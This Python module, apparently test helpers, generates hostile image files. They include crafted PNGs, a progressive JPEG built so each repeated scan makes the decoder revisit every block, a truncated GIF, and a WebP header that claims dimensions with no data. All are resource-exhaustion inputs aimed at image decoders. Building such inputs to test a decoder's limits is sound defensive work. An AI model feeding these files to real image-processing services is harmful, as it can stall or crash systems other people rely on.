"""Pictures that are meant to harm the program that reads them."""

import struct
import zlib


def png(width, height, data=None, kind=0):
    """A grey picture (kind 0) or another kind; `data` replaces the pixel data."""
    def chunk(name, content):
        body = name + content
        return struct.pack(">I", len(content)) + body + struct.pack(">I", zlib.crc32(body))
    if data is None:
        packer = zlib.compressobj(1)
        row = b"\0" + b"\x80" * width
        data = b"".join(packer.compress(row) for _ in range(height)) + packer.flush()
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, kind, 0, 0, 0))
            + chunk(b"IDAT", data) + chunk(b"IEND", b""))


def jpeg_of_scans(scans, side=3840):
    """A progressive JPEG in which each scan of 27 bytes makes the decoder visit every block again: "there is nothing
    in the next 27306 blocks", nine times (ITU T.81, annex G)."""
    def segment(marker, content):
        return struct.pack(">BBH", 0xff, marker, len(content) + 2) + content

    def table(kind, symbol):  # one code of one bit
        return segment(0xc4, bytes([kind, 1]) + bytes(15) + bytes([symbol]))

    def scan(first, last, data):
        return segment(0xda, bytes([1, 1, 0, first, last, 0])) + data
    blocks = (side // 8) ** 2
    nothing = int("0" + "10" * 7, 2)
    bits = "".join(f"{nothing:015b}" for _ in range(9)) + "1"
    again = scan(1, 63, int(bits, 2).to_bytes(17, "big"))
    return (b"\xff\xd8" + segment(0xdb, b"\0" + b"\1" * 64)
            + segment(0xc2, struct.pack(">BHHBBBB", 8, side, side, 1, 1, 0x11, 0))
            + table(0x00, 0) + table(0x10, 0xe0) + scan(0, 0, bytes(blocks // 8))
            + again * scans + b"\xff\xd9")


def gif(width, height, data=b""):
    return (b"GIF89a" + struct.pack("<HHBBB", width, height, 0x80, 0, 0) + bytes(6)
            + b"," + struct.pack("<HHHHB", 0, 0, width, height, 0) + b"\x02" + data)


def webp(width, height):
    """The header with the dimensions, and nothing else."""
    said = b"VP8X" + struct.pack("<I", 10) + bytes(4) + (width - 1).to_bytes(3, "little") + (
        height - 1).to_bytes(3, "little")
    return b"RIFF" + struct.pack("<I", len(said) + 4) + b"WEBP" + said
